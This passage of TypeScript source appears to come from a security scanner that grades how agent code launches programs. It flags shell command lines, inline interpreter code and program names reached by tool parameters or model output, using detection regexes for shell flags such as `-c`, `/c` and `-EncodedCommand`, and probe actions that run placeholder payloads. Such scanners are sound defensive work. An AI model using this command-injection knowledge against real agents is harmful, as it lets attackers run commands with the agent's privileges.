      return { message: `\`${callee}\` starts ${quote([program, ...known].join(' '))}: ${verdict.reason ?? 'a shell'}`, severity: 'low', action };
    }
    if (!taints.length && shape.args.every((a) => ctx.fixed(a))) {
      return { message: `\`${callee}\` starts \`${program}\` with arguments from the program's own constants: ${verdict.reason ?? 'a shell'}`, severity: 'low', action };
    }
    if (!taints.length && shape.args.every((a) => ctx.fixed(a) || ctx.own?.(a)) && shape.args.some((a) => ownAtEveryCall(ctx, a))) {
      return { message: `\`${callee}\` starts \`${program}\` with dynamic arguments: ${verdict.reason ?? 'a shell'}; ${EVERY_CALLER_OWN}.`, severity: 'low', action };
    }
    // `bash -c <line>` (or an interpreter's inline code, `osascript -e <script>`) with only the program's own values or
    // configuration in it: graded as that line run with `shell=True` is (`["bash", "-c", f"source {nvm_dir}/nvm.sh && nvm --version"]`)
    if (!taints.length && !injected && (verdict.problem === 'shell' || verdict.problem === 'interpreter')) {
      const flag = verdict.problem === 'shell' ? SHELL_LINE_FLAG : INTERPRETER_CODE_FLAG;
      const at = shape.args.findIndex((a) => flag.test(constString(a) ?? ''));
      const line = at >= 0 ? shape.args[at + 1] : undefined;
      const sk = line && skeleton(line);
      if (sk && sk.holes.length && sk.holes.every(configuredValue) && !readAtRunTime(line) && shape.args.every((a, j) => j === at + 1 || ctx.fixed(a))) {
        return ownLineVerdict(callee, sk.text, action, { program, flag: constString(shape.args[at])!, code: verdict.problem === 'interpreter' });
      }
    }
    // `osascript -e 'tell application "System Events" to keystroke "<key>"'` with the key's `\` and `"` escaped for an
    // AppleScript string and standing inside one, `python -c f"webbrowser.open({url!r})"`: data in the code, whoever chose it
    const literals = !injected && verdict.problem === 'interpreter' ? inlineLiteralsOnly(ctx, program, shape.args) : undefined;
    if (literals) {
      return {
        message: `\`${callee}\` starts \`${program}\` with inline ${literals} graded low.`,
        severity: 'low',
        action,
      };
    }
    // the verdict was reached with hostile arguments; say what the program does, not what the probe was
    const what = injected
      ? `a dynamic argument of \`${program}\` may be read as an option (\`${injected.option}=…\`: ${(verdict.reason ?? 'it runs a program').replace(/ \(`[^`]*`\)$/, '')}); put \`--\` before the operands`
      : verdict.problem === 'interpreter'
        ? `\`${program}\` runs the code or script its arguments name`
        : verdict.problem === 'shell'
          ? `\`${program}\` is a shell`
          : `\`${program}\` runs the program its arguments name`;
    // no source in sight, outside code that runs an agent's commands, and no inline code or command line handed over
    // (`python3 -c {code}`, `osascript -e`, `cmd /c`, which stay as they are): the project's own plumbing, a program it
    // starts with its own files, names and options (data read at run time, which a repository, a user or a peer can
    // write, keeps its grade)
    // (not for an option a dynamic word may be: git's `-c` beside it is configuration, not inline code)
    const inlineCode = !injected && shape.args.some((a) => /^(?:-[a-zA-Z]{0,2}[ce]|-exec|\/[cCkK]|-Command|-EncodedCommand)$/.test(constString(a) ?? ''));
    if (!taints.length && !inlineCode && ownPlumbing(ctx, hit.call, shape.args)) {
      return { message: `\`${callee}\` starts \`${program}\` with dynamic arguments: ${what}; ${NO_SOURCE_OUTSIDE_AGENT_COMMANDS}.`, severity: 'low', action };
    }
    const inline = verdict.problem === 'shell' && taints.length && shape.args.some((a) => SHELL_LINE_FLAG.test(constString(a) ?? ''));
    return {
      message: inline
        ? `\`${callee}\` runs a command line taken from ${taintPhrase(taints)} in a host shell (\`${program} -c\`): the model chooses what runs, with the agent's privileges.`
        : `\`${callee}\` starts \`${program}\` with dynamic arguments: ${what}.`,
      // dynamic arguments with no untrusted origin in sight are worth a look, not an alarm
      severity: taints.length ? severityForTaint(taints, ctx.rule.severity) : 'medium',
      trace: traceOf(taints, ctx, hit.call, `reaches \`${callee}\``),
      action,
    };
  }),
};

/**
 * Inline code (`osascript -e <script>`, `python -c <code>`) whose other arguments are the program's own and whose dynamic
 * parts are each the program's own or data the language reads as one literal: text escaped for a double-quoted
 * AppleScript string (`dquote-escaped`) and inside one, a Python literal (`{url!r}`, `python-literal`); one at least such
 * data. What the message says of it, or undefined.
 */
function inlineLiteralsOnly(ctx: CheckContext, program: string, args: readonly Value[]): string | undefined {
  const name = program.slice(program.lastIndexOf('/') + 1);
  const language = name === 'osascript' ? 'applescript' : /^(?:python[\d.]*|pypy3?)$/.test(name) ? 'python' : undefined;
  if (!language) return undefined;
  const flag = language === 'applescript' ? '-e' : '-c';
  let data = false;
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    if (ctx.fixed(a)) continue;
    if (constString(args[i - 1]) !== flag) return undefined;
    const sk = skeleton(a);
    if (!sk) return undefined;
    for (const [n, h] of sk.holes.entries()) {
      if (isNumber(h) || ctx.fixed(h) || (!ctx.untrusted(h).length && configuredValue(h))) continue;
      const literal =
        language === 'applescript'
          ? sanitizersOf(h).includes('dquote-escaped') && insideAppleScriptString(sk.text, `${HOLE_PREFIX}${n}__`)
          : sanitizersOf(h).includes('python-literal');
      if (!literal) return undefined;
      data = true;
    }
  }
  if (!data) return undefined;
  return language === 'applescript'
    ? 'AppleScript whose every dynamic part is escaped for a double-quoted string (`\\` and `"`) and stands inside one: it stays one string;'
    : 'Python whose every dynamic part is spliced in as its literal (`!r`): data, not code;';
}

/** Whether the marker stands inside a double-quoted string of the AppleScript text (`\` escapes the next character there). */
function insideAppleScriptString(text: string, marker: string): boolean {
  const at = text.indexOf(marker);
  if (at < 0) return false;
  let inside = false;
  for (let i = 0; i < at; i++) {
    const c = text[i];
    if (inside && c === '\\') i++;
    else if (c === '"') inside = !inside;
  }
  return inside;
}

/**
 * `[self.default_shell, "-c", command]`: a program the settings name (a shell a user configures, `bash` or `cmd` by
 * default) handed a shell's command-line flag (`-c`, `/c`, `-Command`, or one of them by platform) and, after it, text an
 * untrusted origin reaches: that text is the command line the shell runs.
 */
function configuredShellLine(hit: SinkHit, ctx: CheckContext, program: Value, args: readonly Value[], callee: string): Verdict | undefined {
  const flags = args[0] && (constString(args[0]) !== undefined ? [constString(args[0])!] : args[0].kind === 'unknown' ? args[0].oneOf : undefined);
  if (!flags?.length || !flags.every((f) => typeof f === 'string' && SHELL_COMMAND_FLAG.test(f)) || !configuredValue(program)) return undefined;
  const taints = args[1] ? unsanitized(ctx, args[1], ['shell-quoted']) : [];
  if (!taints.length) return undefined;
  return {
    message: `\`${callee}\` runs a command line taken from ${taintPhrase(taints)} in the shell its settings name (with ${flags.map((f) => `\`${f}\``).join(' or ')}): ${taints.every((t) => t.origin.kind === 'tool-param' || t.origin.kind === 'llm-output') ? 'the model chooses' : 'its sender chooses'} what runs, with the agent's privileges.`,
    severity: severityForTaint(taints, ctx.rule.severity),
    trace: traceOf(taints, ctx, hit.call, `reaches \`${callee}\``),
    action: { kind: 'exec', command: 'sh', args: ['-c', fillHoles(args[1]!, COMMAND_PAYLOAD) ?? COMMAND_PAYLOAD] },
  };
}

/** A shell's flag that takes the next word as a command line: `sh -c`, `cmd /c`, `powershell -Command`. */
const SHELL_COMMAND_FLAG = /^(?:-[a-z]*c|\/[cCkK]|-Command)$/;

/** argv-form spawns whose program is not a constant, or whose arguments come from untrusted data. */
export const commandDynamic: Check = {
  kind: 'sink',
  judge: eachAlternative((hit, ctx) => {
    const shape = spawnShape(hit, ctx.facts);
    if (shape.line || (shape.shell !== false && !(shape.shell === 'unknown' && shellOnWindowsOnly(ctx, hit) && !argvUntrusted(ctx, shape)))) return undefined;
    const callee = calleeText(ctx, hit.call);
    const program = constString(shape.program);
    if (program === undefined) {
      if (!shape.program || ctx.fixed(shape.program)) return undefined;
      // a helper every caller hands a constant program (`_run(["uv", "sync", *extra])`): none; or a program the
      // project's own code names (`[GIT_CMD, "tag"]`): low, as that program run directly is
      const atEveryCall = ctx.untrusted(hit.value).length ? undefined : programAtEveryCall(ctx, hit.value);
      if (atEveryCall === 'constant') return undefined;
      if (atEveryCall === 'own') return foundByOwnCodeVerdict(callee);
      // a constant file name in a directory no untrusted origin chooses (`Path(bin_dir) / "pwsh"`): that program, found there
      if (constantFileName(shape.program) && !ctx.untrusted(shape.program).length) return undefined;
      // a helper every caller of which hands such a path, or a lookup of a constant name on PATH (`_supports(Path(which("tool")))`)
      if (programNamedAtEveryCall(ctx, shape.program) && !ctx.untrusted(shape.program).length) return undefined;
      // a helper every caller of which hands an argv list starting with a constant program, some with untrusted words
      // among its arguments (`_cast(["cast", "call", address, wallet])`): those words are the program's arguments
      const handed = ctx.untrusted(hit.value).length && programAtEveryCall(ctx, hit.value) === 'constant' ? argumentsAtEveryCall(ctx, hit, callee) : 'unknown';
      if (handed !== 'unknown') return handed;
      const taints = notAllowlisted(ctx, shape.program, true);
      // checked against a collection of the program's own values (`if prog not in allowed: raise`), whether or
      // not an untrusted origin is in sight (`if exe in ["node", "npm"]: run([exe, "--version"])`)
      if (!taints.length && (ctx.untrusted(shape.program).length || allowlisted(shape.program, true))) return undefined;
      // the program comes from the settings the object was made with (an MCP client's server command): by design
      if (!taints.length && taintOf(shape.program).length && configuredValue(shape.program)) {
        return {
          message: `\`${callee}\` starts a program named by the settings the object was made with; no tool parameter, model output or request input reaches it, so it is graded low; make sure only deliberate configuration chooses it.`,
          severity: 'low',
          action: { kind: 'exec', command: '/tmp/agentos_probe', args: [] },
        };
      }
      if (!taints.length && ownAtEveryCall(ctx, shape.program)) {
        return {
          message: `\`${callee}\` starts a program whose name is not a constant; ${EVERY_CALLER_OWN}; make sure only deliberate configuration chooses it.`,
          severity: 'low',
          action: { kind: 'exec', command: '/tmp/agentos_probe', args: [] },
        };
      }
      // named by the environment or command line its operator sets (`os.environ.get("PY", "python3")`): who sets them already chooses what runs
      if (!taints.length && !taintOf(shape.program).length && ctx.own?.(shape.program)) {
        return {
          message: `\`${callee}\` starts a program named by the environment or command line the program is run with; no tool parameter, model output or request input reaches it, so it is graded low; make sure only deliberate configuration chooses it.`,
          severity: 'low',
          action: { kind: 'exec', command: '/tmp/agentos_probe', args: [] },
        };
      }
      // found or built by the program's own code (a downloaded binary, a helper's search of the install locations, an
      // attribute of its own): no parameter a caller fills, nothing read from a file or a response at run time
      if (!taints.length && !taintOf(shape.program).length && foundByOwnCode(shape.program)) return foundByOwnCodeVerdict(callee);
      // no source in sight, outside code that runs an agent's commands: the project's own plumbing (a program named by
      // data read at run time, which a repository, a user or a peer can write, keeps its grade)
      if (!taints.length && ownPlumbing(ctx, hit.call, [shape.program])) {
        return {
          message: `\`${callee}\` starts a program whose name is not a constant; ${NO_SOURCE_OUTSIDE_AGENT_COMMANDS}; run a fixed program from an allowlist.`,
          severity: 'low',
          action: { kind: 'exec', command: '/tmp/agentos_probe', args: [] },
        };
      }
      return {
        message: `\`${callee}\` starts a program whose name is ${taints.length ? `taken from ${taintPhrase(taints)}` : 'not a constant'}; run a fixed program from an allowlist.`,
        severity: severityForTaint(taints, ctx.rule.severity),
        trace: traceOf(taints, ctx, hit.call, `reaches \`${callee}\``),
        action: { kind: 'exec', command: '/tmp/agentos_probe', args: [] },
      };
    }
    // a program named by its file name in a directory an untrusted origin chooses (`{tool_input}/bin/python3`)
    const chosen = shape.foundIn ? notAllowlisted(ctx, shape.foundIn, true) : [];
    if (chosen.length) {
      return {
        message: `\`${callee}\` starts \`${program}\` from a directory taken from ${taintPhrase(chosen)}; run a program from a fixed location.`,
        severity: severityForTaint(chosen, ctx.rule.severity),
        trace: traceOf(chosen, ctx, hit.call, `reaches \`${callee}\``),
        action: { kind: 'exec', command: '/tmp/agentos_probe', args: [] },
      };
    }
    // (a helper's parameter every call of which passes text beginning with a word, `_duration(str(out_dir / f"{name}.mp3"))`,
    // is no option either)
    const startsWord = (a: Value) => startsWithWord(a) || (a.kind === 'unknown' && taintOf(a).some((o) => o.kind === 'param') && !!passedThrough(ctx, a)?.every((p) => startsWithWord(p)));
    const taints = optionableArguments(program, shape.args, startsWord).flatMap((a) => unsanitized(ctx, a, ['shell-quoted']));
    if (!taints.length) return undefined;
    return {
      message: `\`${callee}\` passes ${taintPhrase(taints)} as arguments to \`${program}\` outside the kernel; validate them (no leading \`-\`) or run the command through the kernel.`,
      severity: 'medium',
      trace: traceOf(taints, ctx, hit.call, `reaches \`${callee}\``),
    };
  }),
};

/**
 * The verdict on a helper's argv parameter every caller of which hands a list starting with a constant program
 * (`programAtEveryCall`): each list's arguments judged as a literal argv's are (after `--`, beginning with a word or
 * the value of an option taking the next word, none is an option), undefined when no untrusted one can be an option;
 * `unknown` when a caller hands a command line (split by the helper) or the program runs code or commands its
 * arguments name (`runsWhatItsArgumentsName`: `python`, `sh`, `cmd`, `osascript`): those are judged as the program's own choice is.
 */
function argumentsAtEveryCall(ctx: CheckContext, hit: SinkHit, callee: string): Verdict | undefined | 'unknown' {
  const programs = new Set<string>();
  const taints: ReturnType<typeof unsanitized> = [];
  for (const p of passedThrough(ctx, hit.value) ?? []) {
    for (const l of p.kind === 'unknown' && p.alternatives?.length ? p.alternatives : [p]) {
      if (l.kind !== 'list') return 'unknown';
      const program = constString(knownProgram(l.items[0], ctx.facts));
      if (program === undefined || runsWhatItsArgumentsName(program)) return 'unknown';
      programs.add(program);
      taints.push(...optionableArguments(program, l.items.slice(1), startsWithWord).flatMap((a) => unsanitized(ctx, a, ['shell-quoted'])));
    }
  }
  if (!taints.length) return undefined;
  const names = [...programs].map((p) => `\`${p}\``).join(' or ');
  return {
    message: `\`${callee}\` passes ${taintPhrase(taints)} as arguments to ${names} (the program every caller names) outside the kernel; validate them (no leading \`-\`) or run the command through the kernel.`,
    severity: 'medium',
    trace: traceOf(taints, ctx, hit.call, `reaches \`${callee}\``),
  };
}

/**
 * The arguments of `program` (the words after it) that it could read as options: not those after a literal `--` (data to
 * the program), not those whose text `beginsWithWord` (fixed text other than `-`: `f"import webbrowser; ..."`), not the
 * value of one of its options that takes the next word (`git -C <dir>`).
 */
function optionableArguments(program: string, args: readonly Value[], beginsWithWord: (a: Value) => boolean): Value[] {
  const words = args.map((a) => constString(a));
  const end = words.indexOf('--');
  return (end < 0 ? args : args.slice(0, end)).filter((a, i) => !beginsWithWord(a) && !isOptionValue(program, words, i));
}

/** An argument whose text begins with constant text that does not begin with `-`: no program reads it as an option. */
function startsWithWord(a: Value): boolean {
  const first = a.kind === 'template' ? a.parts[0] : undefined;
  return typeof first === 'string' && first.length > 0 && !first.startsWith('-');
}

/** Constant programs that are not on `commands.allow` (when an allowlist is configured, or in strict). */
export const commandAllowlist: Check = {
  kind: 'sink',
  judge: eachAlternative((hit, ctx) => {
    const allow = allowlistActive(ctx);
    if (allow === null) return undefined;
    const shape = spawnShape(hit, ctx.facts);
    if (shape.line) return undefined; // the shell rule reports it
    const program = constString(shape.program);
    if (program === undefined) return undefined;
    const verdict = classifyCommand({ command: program, args: constArgs(shape.args) ?? [] }, allow);
    if (verdict.allowed || (verdict.problem !== 'not-allowlisted' && verdict.problem !== 'path-mismatch')) return undefined;
    const why = verdict.problem === 'path-mismatch' ? (verdict.reason ?? 'a different binary than the allowed one') : `not in \`commands.allow\` (${allow.length ? allow.join(', ') : 'empty'})`;
    return {
      message: `\`${calleeText(ctx, hit.call)}\` starts \`${program}\`, which is ${why.replace(/\.$/, '')}.`,
      action: { kind: 'exec', command: program, args: constArgs(shape.args) ?? [] },
    };
  }),
};
